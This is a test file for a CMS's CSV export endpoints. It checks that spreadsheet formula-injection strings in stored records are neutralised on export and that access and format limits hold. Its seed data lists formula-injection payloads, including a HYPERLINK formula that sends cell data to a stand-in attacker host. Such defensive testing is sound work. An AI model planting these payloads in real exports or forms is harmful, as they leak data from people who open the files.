import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import { POST as restPost } from '@/app/(payload)/api/[...slug]/route'
import { STORED_EXPORT_MESSAGE } from '@/collections/Exports'
import { EXPORTABLE_COLLECTIONS } from '@/collections/Exports/columns'

import { clearCollections, testPayload } from '../support/payload'

/**
 * CSV exports from /cms, through Payload's REST route as the export drawer calls it: every row
 * by default, the columns an administrator needs, cells that cannot run in a spreadsheet, and
 * only the collections meant to be exported.
 */
let payload: Payload
let token = ''
const ADMIN = {
  email: `exports-${Date.now()}@example.com`,
  name: 'Exports',
  password: 'exports-password-123',
}

/** What a cell of a sheet must never start with: the spreadsheet would run it. */
const FORMULA_START = /^[=+\-@\t\r]/

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
  '+1+2',
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
  '=1+2;=3+4',
]

function call(path: string, body: unknown, { auth = true, type = 'application/json' } = {}) {
  const request = new Request(`http://localhost/api/${path}`, {
    method: 'POST',
    headers: {
      ...(auth ? { Authorization: `JWT ${token}` } : {}),
      'Content-Type': type,
      'x-forwarded-for': '203.0.113.61',
    },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
  return restPost(request, { params: Promise.resolve({ slug: path.split('/') }) })
}

/**
 * The form the drawer posts when opened on a list and nothing is changed: its defaults (no
 * limit, page 1, every document, the collection's starting columns).
 */
const drawerDefaults = (collectionSlug: keyof typeof EXPORTABLE_COLLECTIONS) => ({
  name: 'export',
  collectionSlug,
  format: 'csv',
  page: 1,
  drafts: 'yes',
  selectionToUse: 'all',
  fields: [...EXPORTABLE_COLLECTIONS[collectionSlug]],
  where: {},
})

const download = (data: unknown, options?: Parameters<typeof call>[2]) =>
  call('exports/download', { data }, options)

async function csvOf(response: Response) {
  expect(response.status, await response.clone().text()).toBe(200)
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/)
  const raw = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
  const rows = parse(raw, { bom: true }) as string[][]
  return { raw, header: rows[0]!, rows: rows.slice(1) }
}

beforeAll(async () => {
  payload = await testPayload()
  await clearCollections(payload, ['waitlist-entries', 'contact-messages'])
  await payload.create({ collection: 'admins', data: ADMIN, overrideAccess: true })
  token = (await payload.login({ collection: 'admins', data: ADMIN })).token!
  for (let i = 1; i <= 14; i++) {
    await payload.create({
      collection: 'waitlist-entries',
      data: { name: HOSTILE[i % HOSTILE.length]!, email: `export-${i}@example.com` },
      overrideAccess: true,
    })
  }
  for (const [i, text] of HOSTILE.entries()) {
    await payload.create({
      collection: 'contact-messages',
      data: {
        fullName: `Sender ${i}`,
        workEmail: `sender-${i}@example.com`,
        company: text,
        companySize: '1-10',
        message: `${text} please call me back`,
        status: 'new',
        source: 'contact-page',
      },
      overrideAccess: true,
    })
  }
})

describe('the export drawer, as it opens', () => {
  it('exports all 14 waitlist entries, and counts 14', async () => {
    const { header, rows } = await csvOf(await download(drawerDefaults('waitlist-entries')))
    expect(header).toEqual(['name', 'email', 'createdAt'])
    expect(rows).toHaveLength(14)
    expect(new Set(rows.map((row) => row[1]))).toEqual(
      new Set(Array.from({ length: 14 }, (_, i) => `export-${i + 1}@example.com`)),
    )
    // The drawer's "N documents to export" comes from the preview.
    const preview = await call('exports/export-preview', {
      ...drawerDefaults('waitlist-entries'),
      previewLimit: 10,
      previewPage: 1,
    })
    expect(preview.status).toBe(200)
    expect(await preview.json()).toMatchObject({ exportTotalDocs: 14, totalDocs: 14 })
  })

  it("exports a contact message's company and message", async () => {
    const { header, rows } = await csvOf(await download(drawerDefaults('contact-messages')))
    expect(header).toEqual([...EXPORTABLE_COLLECTIONS['contact-messages']])
    expect(rows).toHaveLength(HOSTILE.length)
    const company = header.indexOf('company')
    const message = header.indexOf('message')
    expect(rows.map((row) => row[company]).sort()).toEqual(HOSTILE.map((text) => `'${text}`).sort())
    expect(rows.map((row) => row[message]).sort()).toEqual(
      HOSTILE.map((text) => `'${text} please call me back`).sort(),
    )
  })
})

describe('an exported CSV', () => {
  it('opens inert: no cell starts a formula, every field is quoted', async () => {
    for (const slug of ['contact-messages', 'waitlist-entries'] as const) {
      const { raw, header, rows } = await csvOf(await download(drawerDefaults(slug)))
      for (const cell of [...header, ...rows.flat()]) {
        expect(cell, cell).not.toMatch(FORMULA_START)
      }
      // Quoted fields: a `;` or a tab inside one cannot split it in any spreadsheet locale.
      const unquoted: string[] = []
      parse(raw, {
        bom: true,
        cast: (value, context) => {
          if (!context.quoting) unquoted.push(value)
          return value
        },
      })
      expect(unquoted).toEqual([])
    }
    expect((await csvOf(await download(drawerDefaults('contact-messages')))).raw).toContain(
      '"\'=1+2;=3+4"',
    )
  })

  it('keeps a limit an administrator sets', async () => {
    const { rows } = await csvOf(
      await download({ ...drawerDefaults('waitlist-entries'), limit: 5 }),
    )
    expect(rows).toHaveLength(5)
  })
})

describe('the export endpoints', () => {
  it('export only contact messages and waitlist entries, as CSV', async () => {
    for (const collectionSlug of ['admins', 'payload-jobs', 'monitors', 'posts', 'nope']) {
      for (const path of ['exports/download', 'exports/export-preview']) {
        const data = { ...drawerDefaults('waitlist-entries'), collectionSlug }
        const response = await call(path, path.endsWith('download') ? { data } : data)
        expect(response.status, `${path} ${collectionSlug}`).toBe(400)
        expect(await response.json()).toMatchObject({
          message: 'Only contact messages and waitlist entries can be exported.',
        })
      }
    }
    for (const format of ['json', undefined, 'xlsx']) {
      const response = await download({ ...drawerDefaults('contact-messages'), format })
      expect(response.status).toBe(400)
      expect(await response.json()).toMatchObject({
        message: 'Exports are CSV files: set format to "csv".',
      })
    }
  })

  it('refuse anonymous callers, bodies that are not JSON, and stored exports', async () => {
    const anonymous = await download(drawerDefaults('waitlist-entries'), { auth: false })
    expect(anonymous.status).toBe(403)
    const form = await download('collectionSlug=waitlist-entries', {
      type: 'application/x-www-form-urlencoded',
    })
    expect(form.status).toBe(415)
    const broken = await call('exports/download', '{"data":', {})
    expect(broken.status).toBe(400)
    const stored = await call('exports', drawerDefaults('waitlist-entries'))
    expect(stored.status).toBe(403)
    expect(await stored.json()).toMatchObject({ errors: [{ message: STORED_EXPORT_MESSAGE }] })
    expect((await payload.count({ collection: 'exports', overrideAccess: true })).totalDocs).toBe(0)
  })
})
